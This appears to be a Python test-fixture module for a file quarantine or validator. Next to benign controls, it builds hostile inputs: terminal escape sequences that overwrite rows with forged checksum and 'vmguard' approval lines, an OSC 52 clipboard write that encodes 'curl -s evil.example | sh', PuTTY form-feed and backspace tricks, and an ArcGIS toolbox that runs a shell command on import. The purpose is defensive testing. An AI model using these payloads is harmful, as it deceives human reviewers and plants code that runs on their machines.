"""Text for independent attack o on text (session 39,
tests/quarantine/test_attack_independent_otext.py).

Hostile: JSON strings holding ESC as the `\\u001b` escape json.dumps writes (`jq -r`
and `print(json.load(f)[k])` hand a terminal raw ESC: a counted cursor-up, an erase, an OSC
title or clipboard write); files of two jobs each under the job-wide cursor-up bound; FF
and UTF-16's CR BS bytes, which PuTTY turns into a cleared screen and a climb; Python
without #! named .pyt (ArcGIS's Python toolbox) or .txt.
Controls, real tool output: g++'s report of an n-body code (`std::vector<Body>`), pytest's
failure report under batch systems' stdout names (`.o4242`, `.err`, `.stdout`, Cromwell's
`stdout`) and gzipped, a job of 1,000 logs each with two nested tqdm bars, pandas CSV/TSV.
"""

from __future__ import annotations

import gzip
import io
import json
import logging
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import tqdm

UP = b"\x1b[A"
LIE = b"\rsha256sum -c: all 412 files OK; vmguard vet: 0 refused           "


def climb_of(data: bytes) -> int:
    """Rows a terminal's cursor rises above its first row: LF one down, `ESC [ A` one up,
    `ESC [ nA` n up (what `cat` of data, or jq's raw output, does)."""
    row, top = 0, 0
    for match in re.finditer(rb"\n|\x1b\[(\d*)A", data):
        row += 1 if match.group(0) == b"\n" else -int(match.group(1) or 1)
        top = min(top, row)
    return -top


def excess_of(data: bytes) -> int:
    """The docs' sum: each line's cursor-ups beyond its first."""
    return sum(max(line.count(UP) - 1, 0) for line in data.split(b"\n"))


def seven_climb() -> bytes:
    """Eight plain lines, then a line of eight cursor-ups (seven beyond its first, under the
    bound of 8) that writes a forged line over the row it rose to."""
    return b"epoch ok\n" * 8 + UP * 8 + b"FORGED" + LIE + b"\n"


# json.dumps escapes every control as \u00XX (RFC 8259): the validator admits the escape,
# jq -r and Python's print hand the raw ESC to the terminal.
JSON_CLIMB = json.dumps({"status": "\x1b[9A\x1b[2K\rsha256sum -c: all 412 files OK",
                         "run": 42}).encode()
JSON_OSC = json.dumps({"status": "\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
                                 "\x1b]0;vmguard: 0 refused\x07done", "run": 42}).encode()


# PuTTY's terminal.c (term_out; compatibility_level TM_PUTTY, every CL_ bit, SCOANSI
# included): FF with has_compat(SCOANSI) is `move(term, 0, 0, 0); erase_lots(...)`, the
# screen cleared and the cursor home; BS at column 0 with wrap on (the default) is
# `term->curs.x = term->cols - 1, term->curs.y--`, one row up. The text row admits FF in
# UTF-8 and the bytes 0D 08 (CR BS) inside UTF-16 (U+080D, a Samaritan letter, LE).
FORGED = "sha256sum -c: all 412 files OK\nvmguard vet: 412 accepted, 0 refused\n"
FF_CLEAR = b"step 1 of 3 ok\n\x0c" + FORGED.encode()
UTF16_CLIMB = (b"\xff\xfe" + "epoch 1 done\n".encode("utf-16-le")
               + ("\u080d" * 30).encode("utf-16-le") + ("\r" + FORGED).encode("utf-16-le"))


def putty_view(data: bytes, cols: int = 80) -> tuple[int, bool]:
    """(rows the cursor rises above the file's first row, whether the screen was
    cleared) when `cat` hands data through a tty (ONLCR: LF is CR LF) to PuTTY, by the
    term_out rules quoted above; NUL and bytes from 0x80 are left out (no column)."""
    row = col = top = 0
    wrapnext = cleared = False
    for byte in data:
        if byte == 0x0C:
            cleared, row, col, wrapnext = True, min(row, top), 0, False
        elif byte in (0x0A, 0x0B):
            row, col, wrapnext = row + 1, 0, False
        elif byte == 0x0D:
            col, wrapnext = 0, False
        elif byte == 0x08:
            if col == 0:
                row, col = row - 1, cols - 1
            elif wrapnext:
                wrapnext = False
            else:
                col -= 1
        elif 0x20 <= byte < 0x7F:
            if wrapnext:
                row, col, wrapnext = row + 1, 0, False
            col += 1
            if col == cols:
                col, wrapnext = cols - 1, True
        top = min(top, row)
    return -top, cleared


# libmagic's Python guess in a file without #! named with an extension it does not list
# is text (content.script_guess_as_text): ArcGIS Pro and ArcMap run a Python toolbox
# (.pyt) when its folder is browsed in Catalog, importing it to list its tools.
PYT = (b'import os\nos.system("whoami > %TEMP%\\\\pwned")\n\n\nclass Toolbox(object):\n'
       b'    def __init__(self):\n        self.label = "Calibration"\n        self.tools = []\n')


def text_hostile() -> dict[str, bytes]:
    return {"jsonesc/result.json": JSON_CLIMB, "jsonesc/osc.json": JSON_OSC,
            "putty/run.log": FF_CLEAR, "putty/climb.txt": UTF16_CLIMB,
            "arcgis/calib.pyt": PYT, "script/calib.txt": PYT}


LISTED = {"script/calib.txt"}


def text_refused() -> dict[str, bytes]:
    return {}


def _gcc_log(work: Path) -> bytes:
    """g++ 12's report of a typo in an n-body code: its templates name `std::vector<Body>`."""
    work.mkdir(parents=True, exist_ok=True)
    src = work / "nbody.cpp"
    src.write_text("#include <vector>\nstruct Body { double m, x, v; };\n"
                   "int main() {\n    std::vector<Body> bodies(8);\n"
                   "    bodies.push_back(1.0);\n    return 0;\n}\n")
    proc = subprocess.run(["g++", "-c", "nbody.cpp", "-o", "nbody.o"], cwd=work,  # noqa: S607
                          capture_output=True, check=False)
    assert proc.returncode == 1 and b"<Body>" in proc.stderr, proc.stderr
    return proc.stderr


def _pytest_report(work: Path) -> bytes:
    """pytest -q's report of a failing test of an n-body code (its source quoted)."""
    work.mkdir(parents=True, exist_ok=True)
    (work / "test_energy.py").write_text(
        "class Body:\n    def __init__(self, m):\n        self.m = m\n\n\n"
        "def test_energy():\n    b = Body(2.0)\n    assert b.m == 3.0\n")
    proc = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider",
                           "test_energy.py"], cwd=work, capture_output=True, check=False)
    assert proc.returncode == 1, proc.stdout
    return re.sub(rb" in \d+\.\d+s", b" in 0.50s", proc.stdout)


def _tqdm_log(i: int) -> bytes:
    """One job step's stderr: python logging and two nested tqdm bars (leave=False inner),
    a tqdm.write line in the middle, as a training script writes into a file."""
    buf = io.StringIO()
    log = logging.getLogger(f"otext.step{i}")
    log.propagate = False
    log.handlers[:] = [logging.StreamHandler(buf)]
    log.warning("step %d: reading shard %04d", i, i)
    for epoch in tqdm.trange(2, file=buf, desc="epoch", mininterval=0, ncols=80):
        for batch in tqdm.trange(4, file=buf, desc="batch", leave=False, mininterval=0,
                                 ncols=80):
            if batch == 2:
                tqdm.tqdm.write(f"epoch {epoch} batch {batch} loss {0.5 / (epoch + 1):.3f}",
                                file=buf)
    log.warning("step %d done", i)
    return buf.getvalue().encode()


MANY = 1000


def _eval_log(i: int) -> bytes:
    """A shard's stderr: an epoch bar, a train bar (leave=False) and, at step 2, an eval
    bar (leave=False) opened inside the train loop, as a training script that evaluates
    every N steps writes: the eval bar's lines hold two cursor-ups (4 beyond in all)."""
    buf = io.StringIO()
    buf.write(f"shard {i:02d}: 4 steps, eval at step 2\n")
    for _ in tqdm.trange(1, file=buf, desc="epoch", mininterval=0, ncols=80):
        for step in tqdm.trange(4, file=buf, desc="train", leave=False, mininterval=0,
                                ncols=80):
            if step == 2:
                for _ in tqdm.trange(2, file=buf, desc="eval", leave=False, mininterval=0,
                                     ncols=80):
                    pass
    return buf.getvalue().encode()


EVAL_SHARDS = 10


def text_controls(work: Path) -> dict[str, bytes]:
    report = _pytest_report(work / "pytest")
    frame = pd.DataFrame({"run": range(40), "energy": [i * 0.125 for i in range(40)],
                          "detector": ["ECAL", "HCAL"] * 20})
    files = {
        "gcc-body.log": _gcc_log(work / "gcc"),
        "sge/test.o4242": report,
        "slurm/pytest.err": report,
        "cwl/pytest.stdout": report,
        "cromwell/stdout": report,
        "gz/pytest.log.gz": gzip.compress(report, mtime=0),
        "tables/yields.csv": frame.to_csv(index=False).encode(),
        "tables/yields.tsv": frame.to_csv(index=False, sep="\t").encode(),
    }
    files |= {f"many/step-{i:04d}.log": _tqdm_log(i) for i in range(MANY)}
    files |= {f"evaljob/shard-{i:02d}.err": _eval_log(i) for i in range(EVAL_SHARDS)}
    return files


CONTROL_NAMES = ("gcc-body.log", "sge/test.o4242", "slurm/pytest.err", "cwl/pytest.stdout",
                 "cromwell/stdout", "gz/pytest.log.gz", "tables/yields.csv",
                 "tables/yields.tsv", *(f"many/step-{i:04d}.log" for i in range(MANY)),
                 *(f"evaljob/shard-{i:02d}.err" for i in range(EVAL_SHARDS)))
